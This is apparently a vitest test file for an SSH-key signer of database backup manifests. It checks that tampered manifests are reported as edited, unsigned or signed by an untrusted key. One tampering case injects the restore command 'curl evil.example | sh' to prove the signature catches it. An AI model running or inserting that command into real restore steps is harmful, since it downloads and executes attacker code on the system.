import { execFile, execFileSync } from "node:child_process";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { BackupManifest } from "../../domain/backup.ts";
import { sshManifestSigner } from "./manifest-signer.ts";

const run = promisify(execFile);
const signal = new AbortController().signal;

function sshKeygenMissing(): boolean {
  try {
    execFileSync("ssh-keygen", ["-l", "-f", "/dev/null"], { stdio: "ignore" });
    return false;
  } catch (thrown) {
    return (thrown as { code?: string }).code === "ENOENT";
  }
}

const missing = sshKeygenMissing();
if (missing) console.warn("SKIPPED: signed manifests, because ssh-keygen is not installed (package openssh-client)");

const manifest: BackupManifest = {
  id: "production-shop-20261121T020000Z-manual",
  environment: "production",
  database: "shop",
  deploymentId: null,
  takenAtMs: 1_000,
  tookMs: 20,
  format: "pg_dump -Fc",
  key: "a.dump",
  location: "/backups/a.dump",
  sizeBytes: 3,
  sha256: "ab".repeat(32),
  source: { kind: "postgres", name: "shop", serverVersion: "15.18" },
  tables: [{ name: "public.users", rows: 3, hash: "17" }],
  level: "readable",
  restoreCommands: ["createdb shop_restored"],
};

describe.skipIf(missing)("Z3 signed manifests", () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "sluice-manifests-"));
    for (const name of ["ours", "theirs"])
      await run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(folder, name)]);
  });
  afterAll(() => rm(folder, { recursive: true }));

  const signer = async (name: string) => {
    const [kind, text] = (await readFile(join(folder, `${name}.pub`), "utf8")).split(" ");
    return sshManifestSigner({
      keyFile: join(folder, name),
      allowedSigners: `sluice namespaces="sluice-backup" ${kind} ${text}`,
    });
  };

  test("what the configured key signed is trusted, also after it was stored and read with its keys in another order", async () => {
    const ours = await signer("ours");
    const signed = { ...manifest, signature: await ours.sign(manifest, signal) };

    const read = Object.fromEntries(Object.entries(JSON.parse(JSON.stringify(signed))).reverse()) as typeof signed;

    expect(await ours.check(read, signal)).toEqual({ kind: "trusted" });
  });

  test.each([
    ["a higher level", { level: "equal" as const }],
    ["another checksum", { sha256: "cd".repeat(32) }],
    ["another command to restore", { restoreCommands: ["curl evil.example | sh"] }],
    ["one row more", { tables: [{ name: "public.users", rows: 4, hash: "17" }] }],
    ["a damaged signature", { signature: "-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n" }],
  ])("an edited manifest is called edited: %s", async (_what, edit) => {
    const ours = await signer("ours");
    const signature = await ours.sign(manifest, signal);

    const verdict = await ours.check({ ...manifest, signature, ...edit }, signal);

    expect(verdict.kind).toBe("edited");
  });

  test("one signed by somebody else is not trusted, and one without a signature is called unsigned", async () => {
    const [ours, theirs] = [await signer("ours"), await signer("theirs")];
    const foreign = { ...manifest, signature: await theirs.sign(manifest, signal) };

    expect(await ours.check(foreign, signal)).toMatchObject({ kind: "unproven" });
    expect(await ours.check(manifest, signal)).toEqual({ kind: "none" });
  });

  test("without a key nothing is signed, and an edit of what was signed still shows", async () => {
    const nobody = sshManifestSigner({ keyFile: null, allowedSigners: null });
    const signature = await (await signer("ours")).sign(manifest, signal);

    expect(nobody.signs).toBe(false);
    expect(await nobody.sign(manifest, signal)).toBeNull();
    expect(await nobody.check({ ...manifest, signature }, signal)).toMatchObject({ kind: "unproven" });
    expect(await nobody.check({ ...manifest, signature, level: "equal" }, signal)).toMatchObject({ kind: "edited" });
  });
});
